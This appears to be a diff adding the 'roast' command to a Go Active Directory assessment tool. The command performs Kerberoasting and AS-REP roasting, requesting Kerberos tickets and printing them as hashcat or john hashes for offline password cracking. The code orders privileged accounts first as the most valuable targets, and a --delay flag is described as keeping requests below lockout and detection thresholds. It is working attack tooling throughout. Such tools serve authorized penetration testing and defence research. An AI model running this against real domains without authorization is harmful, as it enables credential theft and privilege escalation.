@@ -0,0 +1,462 @@
+package cmd
+
+import (
+	"adgo/analyze"
+	"adgo/connect"
+	"adgo/kerberos"
+	"adgo/log"
+	"adgo/output"
+	"adgo/queries"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/go-ldap/ldap/v3"
+	"github.com/spf13/cobra"
+)
+
+// roastETypes maps --etype names to Kerberos encryption types
+var roastETypes = map[string]int32{
+	"rc4":    kerberos.ETypeRC4,
+	"aes128": kerberos.ETypeAES128,
+	"aes256": kerberos.ETypeAES256,
+}
+
+// roastCmd represents the roast command
+var roastCmd = &cobra.Command{
+	Use:   "roast",
+	Short: "Request crackable Kerberos hashes for roastable accounts",
+	Long: "Roast turns the accounts found by the Kerberos attack queries into hashes that " +
+		"hashcat or john crack offline, by requesting tickets from a KDC. The KDC is the " +
+		"--server unless --kdc is given.",
+}
+
+// roastKerberoastCmd represents the roast kerberoast command
+var roastKerberoastCmd = &cobra.Command{
+	Use:   "kerberoast [account...]",
+	Short: "Request service tickets of SPN accounts and print $krb5tgs$ hashes",
+	Long: "Kerberoast finds the accounts of the kerberoasting query, or only the given " +
+		"sAMAccountNames, requests a service ticket for the first SPN of each and prints it " +
+		"as a $krb5tgs$ hash for hashcat (-m 13100 RC4, 19600 AES128, 19700 AES256) or john. " +
+		"Tickets are requested with a TGT of the bind credentials, or of the Kerberos " +
+		"credential cache given with --ccache or KRB5CCNAME when no password is configured. " +
+		"RC4 tickets are requested by default as they crack fastest; accounts that only " +
+		"allow AES need --etype aes256,aes128. --output john writes hashes for john " +
+		"instead of hashcat.",
+	RunE: func(cmd *cobra.Command, args []string) error {
+		return runKerberoast(cmd, args)
+	},
+}
+
+// roastASREPCmd represents the roast asrep command
+var roastASREPCmd = &cobra.Command{
+	Use:   "asrep [account...]",
+	Short: "Request AS-REPs of accounts without pre-authentication and print $krb5asrep$ hashes",
+	Long: "Asrep finds the accounts of the asreproast query, or only the given " +
+		"sAMAccountNames, requests a TGT for each without pre-authentication and prints the " +
+		"AS-REP as a $krb5asrep$ hash for hashcat (-m 18200 RC4, 32100 AES128, 32200 AES256) " +
+		"or john. With --users-file the accounts are read from a file, one per line, and LDAP " +
+		"is not used, so no credentials are needed; accounts that require pre-authentication " +
+		"or do not exist are skipped. --delay spaces the requests to stay below lockout and " +
+		"detection thresholds. --output john writes hashes for john instead of hashcat.",
+	RunE: func(cmd *cobra.Command, args []string) error {
+		return runASREPRoast(cmd, args)
+	},
+}
+
+// runASREPRoast requests and prints the hashes of accounts without
+// pre-authentication
+func runASREPRoast(cmd *cobra.Command, accounts []string) error {
+	etypeNames, _ := cmd.Flags().GetStringSlice("etype")
+	etypes, err := parseRoastETypes(etypeNames)
+	if err != nil {
+		return err
+	}
+	delay, _ := cmd.Flags().GetDuration("delay")
+	if delay < 0 {
+		return fmt.Errorf("--delay must not be negative")
+	}
+	format, err := roastFormat(cmd)
+	if err != nil {
+		return err
+	}
+
+	ctx := cmd.Context()
+	usersFile, _ := cmd.Flags().GetString("users-file")
+	if usersFile != "" {
+		fromFile, err := readUsersFile(usersFile)
+		if err != nil {
+			return err
+		}
+		accounts = append(accounts, fromFile...)
+	} else {
+		if accounts, err = asrepAccounts(ctx, accounts); err != nil {
+			return err
+		}
+	}
+	if len(accounts) == 0 {
+		log.Warnf("No AS-REP roastable accounts found")
+		return nil
+	}
+
+	krb, err := newKerberosClient(cmd)
+	if err != nil {
+		return err
+	}
+
+	return writeRoastOutput(cmd, format, func(w io.Writer) (int, error) {
+		written, failed := 0, 0
+		for i, user := range accounts {
+			if i > 0 && delay > 0 {
+				select {
+				case <-time.After(delay):
+				case <-ctx.Done():
+					return written, ctx.Err()
+				}
+			}
+
+			asrep, err := krb.ASREP(ctx, user, etypes)
+			var kerr *kerberos.Error
+			switch {
+			case errors.As(err, &kerr) && (kerr.Code == kerberos.ErrPreauthRequired || kerr.Code == kerberos.ErrClientUnknown):
+				log.Debugf("Skipping %s: %v", user, err)
+				continue
+			case err != nil:
+				log.Warnf("Requesting an AS-REP for %s failed: %v", user, err)
+				failed++
+				continue
+			}
+			log.Debugf("Got a %s AS-REP for %s", kerberos.ETypeName(asrep.EType), user)
+			hash, err := kerberos.ASREPHash(asrep)
+			if err != nil {
+				log.Warnf("Formatting the AS-REP of %s failed: %v", user, err)
+				failed++
+				continue
+			}
+			if _, err := fmt.Fprintln(w, output.FormatHash(format, hash)); err != nil {
+				return written, err
+			}
+			written++
+		}
+		return written, roastFailures(written, failed)
+	})
+}
+
+// asrepAccounts returns the sAMAccountNames of the asreproast query,
+// restricted to accounts if given
+func asrepAccounts(ctx context.Context, accounts []string) ([]string, error) {
+	cfg := GetConfig()
+	if err := ValidateServer(cfg.LDAP.Server); err != nil {
+		return nil, err
+	}
+	ldapClient, err := newClient(&cfg.LDAP)
+	if err != nil {
+		return nil, fmt.Errorf("creating LDAP client: %w", err)
+	}
+	defer ldapClient.Close()
+
+	q, _ := queries.Get("asreproast")
+	entries, err := ldapClient.Search(ctx, accountsFilter(q.Filter, accounts), q.Attributes)
+	if err != nil {
+		return nil, fmt.Errorf("searching AS-REP roastable accounts: %w", err)
+	}
+	names := make([]string, 0, len(entries))
+	for _, entry := range entries {
+		names = append(names, entryName(entry))
+	}
+	return names, nil
+}
+
+// readUsersFile reads account names, one per line, skipping blank lines
+// and # comments
+func readUsersFile(path string) ([]string, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, fmt.Errorf("reading users file: %w", err)
+	}
+	var users []string
+	for _, line := range strings.Split(string(data), "\n") {
+		line = strings.TrimSpace(line)
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		users = append(users, line)
+	}
+	return users, nil
+}
+
+// offlineRoast reports whether a roast command reads its accounts from
+// --users-file and so does not bind to LDAP
+func offlineRoast(cmd *cobra.Command) bool {
+	f := cmd.Flags().Lookup("users-file")
+	return f != nil && f.Value.String() != ""
+}
+
+// runKerberoast requests and prints the hashes of the kerberoastable accounts
+func runKerberoast(cmd *cobra.Command, accounts []string) error {
+	cfg := GetConfig()
+	if err := ValidateServer(cfg.LDAP.Server); err != nil {
+		return err
+	}
+	etypeNames, _ := cmd.Flags().GetStringSlice("etype")
+	etypes, err := parseRoastETypes(etypeNames)
+	if err != nil {
+		return err
+	}
+	format, err := roastFormat(cmd)
+	if err != nil {
+		return err
+	}
+
+	ldapClient, err := newClient(&cfg.LDAP)
+	if err != nil {
+		return fmt.Errorf("creating LDAP client: %w", err)
+	}
+	defer ldapClient.Close()
+
+	ctx := cmd.Context()
+	q, _ := queries.Get("kerberoasting")
+	entries, err := ldapClient.Search(ctx, accountsFilter(q.Filter, accounts), q.Attributes)
+	if err != nil {
+		return fmt.Errorf("searching kerberoastable accounts: %w", err)
+	}
+	if len(entries) == 0 {
+		log.Warnf("No kerberoastable accounts found")
+		return nil
+	}
+	entries = privilegedFirst(ctx, ldapClient, cfg.LDAP.BaseDN, entries)
+
+	krb, err := newKerberosClient(cmd)
+	if err != nil {
+		return err
+	}
+	if err := kerberosLogin(ctx, cmd, krb); err != nil {
+		return err
+	}
+
+	return writeRoastOutput(cmd, format, func(w io.Writer) (int, error) {
+		written, failed := 0, 0
+		for _, entry := range entries {
+			user := entryName(entry)
+			spns := entry.GetEqualFoldAttributeValues(analyze.AttrServicePrincipalName)
+			if len(spns) == 0 {
+				continue
+			}
+			ticket, err := krb.ServiceTicket(ctx, spns[0], etypes)
+			if err != nil {
+				log.Warnf("Requesting a ticket for %s (%s) failed: %v", user, spns[0], err)
+				failed++
+				continue
+			}
+			log.Debugf("Got a %s ticket for %s (%s)", kerberos.ETypeName(ticket.EType), user, spns[0])
+			hash, err := kerberos.TGSHash(user, ticket)
+			if err != nil {
+				log.Warnf("Formatting the ticket of %s failed: %v", user, err)
+				failed++
+				continue
+			}
+			if _, err := fmt.Fprintln(w, output.FormatHash(format, hash)); err != nil {
+				return written, err
+			}
+			written++
+		}
+		return written, roastFailures(written, failed)
+	})
+}
+
+// privilegedFirst moves the accounts of the kerberoastingPrivileged query,
+// those with adminCount=1 or in a sensitive group, to the front of entries,
+// as they are the hashes worth cracking first. Entries are returned as
+// they are if the query fails.
+func privilegedFirst(ctx context.Context, client connect.Client, baseDN string, entries []*ldap.Entry) []*ldap.Entry {
+	q, _ := queries.Get("kerberoastingPrivileged")
+	q = queries.NewQueryBuilder(q).WithParam(queries.ParamDomain, baseDN).Build()
+	privileged, err := client.Search(ctx, q.Filter, []string{analyze.AttrSAMAccountName})
+	if err != nil {
+		log.Warnf("Searching privileged kerberoastable accounts: %v", err)
+		return entries
+	}
+	dns := make(map[string]bool, len(privileged))
+	for _, e := range privileged {
+		dns[strings.ToLower(e.DN)] = true
+	}
+
+	sorted := make([]*ldap.Entry, 0, len(entries))
+	var others []*ldap.Entry
+	var names []string
+	for _, e := range entries {
+		if dns[strings.ToLower(e.DN)] {
+			sorted = append(sorted, e)
+			names = append(names, entryName(e))
+		} else {
+			others = append(others, e)
+		}
+	}
+	if len(names) > 0 {
+		log.Infof("High-value kerberoastable accounts (adminCount or sensitive groups): %s", strings.Join(names, ", "))
+	}
+	return append(sorted, others...)
+}
+
+// newKerberosClient returns a Kerberos client of the bind user, without a
+// TGT, for the KDC of --kdc or --server
+func newKerberosClient(cmd *cobra.Command) (*kerberos.Client, error) {
+	cfg := GetConfig()
+	realmFlag, _ := cmd.Flags().GetString("realm")
+	user, realm, err := kerberosPrincipal(&cfg.LDAP, realmFlag)
+	if err != nil {
+		return nil, err
+	}
+	kdc, _ := cmd.Flags().GetString("kdc")
+	if kdc == "" {
+		kdc = cfg.LDAP.Server
+	}
+	if err := ValidateServer(kdc); err != nil {
+		return nil, fmt.Errorf("no KDC: give --kdc or --server")
+	}
+	client := kerberos.NewClient(kdc, realm, user, "")
+	client.Timeout = time.Duration(cfg.LDAP.Timeout) * time.Second
+	return client, nil
+}
+
+// kerberosLogin gets a TGT of the bind user with the configured password
+// or, without one, from the credential cache of --ccache or KRB5CCNAME
+func kerberosLogin(ctx context.Context, cmd *cobra.Command, client *kerberos.Client) error {
+	cfg := GetConfig()
+	ccache, _ := cmd.Flags().GetString("ccache")
+	if ccache == "" && cfg.LDAP.Password == "" {
+		ccache = kerberos.DefaultCCache()
+	}
+	if ccache != "" {
+		if err := client.LoadCCache(ccache); err != nil {
+			return err
+		}
+		log.Debugf("Using the TGT of %s@%s from %s", client.Username, client.Realm, ccache)
+		return nil
+	}
+
+	if client.Username == "" {
+		return fmt.Errorf("LDAP username is not configured")
+	}
+	password, err := connect.BindPassword(&cfg.LDAP)
+	if err != nil {
+		return err
+	}
+	client.Password = password
+	if err := client.Login(ctx); err != nil {
+		return fmt.Errorf("requesting a TGT for %s@%s: %w", client.Username, client.Realm, err)
+	}
+	log.Debugf("Got a TGT for %s@%s from %s", client.Username, client.Realm, client.KDC)
+	return nil
+}
+
+// kerberosPrincipal returns the Kerberos user name and realm of the bind
+// user, which may be empty. The realm is realmFlag if given, else the
+// domain of a UPN or, as for "DOMAIN\user", of the base DN.
+func kerberosPrincipal(c *connect.Config, realmFlag string) (user, realm string, err error) {
+	user, realm = strings.TrimSpace(c.Username), realmFlag
+	if _, name, ok := strings.Cut(user, `\`); ok {
+		user = name
+	}
+	if name, domain, ok := strings.Cut(user, "@"); ok {
+		user = name
+		if realm == "" {
+			realm = domain
+		}
+	}
+	if realm == "" {
+		domain, err := connect.BaseDNToDomain(c.BaseDN)
+		if err != nil {
+			return "", "", fmt.Errorf("no Kerberos realm: give --realm or --baseDN")
+		}
+		realm = domain
+	}
+	return user, strings.ToUpper(realm), nil
+}
+
+// accountsFilter restricts filter to the given sAMAccountNames, if any
+func accountsFilter(filter string, accounts []string) string {
+	if len(accounts) == 0 {
+		return filter
+	}
+	var names strings.Builder
+	for _, account := range accounts {
+		fmt.Fprintf(&names, "(%s=%s)", analyze.AttrSAMAccountName, ldap.EscapeFilter(account))
+	}
+	return fmt.Sprintf("(&%s(|%s))", filter, names.String())
+}
+
+// parseRoastETypes returns the encryption types of --etype names
+func parseRoastETypes(names []string) ([]int32, error) {
+	etypes := make([]int32, 0, len(names))
+	for _, name := range names {
+		etype, ok := roastETypes[strings.ToLower(strings.TrimSpace(name))]
+		if !ok {
+			return nil, fmt.Errorf("unknown encryption type %q (must be rc4, aes128 or aes256)", name)
+		}
+		etypes = append(etypes, etype)
+	}
+	if len(etypes) == 0 {
+		return nil, fmt.Errorf("--etype needs at least one encryption type")
+	}
+	return etypes, nil
+}
+
+// roastFormat returns the cracker format of --output. The default text
+// format writes hashcat hashes.
+func roastFormat(cmd *cobra.Command) (string, error) {
+	format, _ := cmd.Flags().GetString("output")
+	switch format {
+	case "", analyze.OutputFormatText:
+		return analyze.OutputFormatHashcat, nil
+	case analyze.OutputFormatHashcat, analyze.OutputFormatJohn:
+		return format, nil
+	}
+	return "", fmt.Errorf("roast output format must be hashcat or john")
+}
+
+// writeRoastOutput runs write on the report output (see writeReport) and
+// reports the file written with the number of hashes
+func writeRoastOutput(cmd *cobra.Command, format string, write func(io.Writer) (int, error)) error {
+	// Crackable hashes; keep the file private
+	var n int
+	path, err := writeReport(cmd, format, 0600, func(w io.Writer) error {
+		var err error
+		n, err = write(w)
+		return err
+	})
+	if path != "" && n > 0 {
+		log.Infof("Hashes written: %s (%d hashes)", path, n)
+	}
+	return err
+}
+
+// roastFailures returns the error of a roast that failed for some
+// accounts: with exit code ExitPartial if hashes were written
+func roastFailures(written, failed int) error {
+	switch {
+	case failed == 0:
+		return nil
+	case written == 0:
+		return fmt.Errorf("all %d ticket requests failed", failed)
+	}
+	return withExitCode(ExitPartial, fmt.Errorf("%d of %d ticket requests failed", failed, written+failed))
+}
+
+func init() {
+	rootCmd.AddCommand(roastCmd)
+	roastCmd.AddCommand(roastKerberoastCmd)
+	roastCmd.AddCommand(roastASREPCmd)
+
+	roastCmd.PersistentFlags().String("realm", "", "Kerberos realm (default: domain of a UPN username or of the base DN)")
+	roastCmd.PersistentFlags().String("kdc", "", "KDC to request tickets from, host or host:port (default: --server)")
+	roastCmd.PersistentFlags().String("ccache", "", "Kerberos credential cache with a TGT to use instead of the password (default: KRB5CCNAME without a password)")
+	roastKerberoastCmd.Flags().StringSlice("etype", []string{"rc4"}, "Ticket encryption types to request, in order of preference: rc4, aes128, aes256")
+	roastASREPCmd.Flags().StringSlice("etype", []string{"rc4"}, "AS-REP encryption types to request, in order of preference: rc4, aes128, aes256")
+	roastASREPCmd.Flags().String("users-file", "", "Read the accounts from this file, one per line, instead of LDAP")
+	roastASREPCmd.Flags().Duration("delay", 0, "Time to wait between accounts (e.g., 2s)")
+}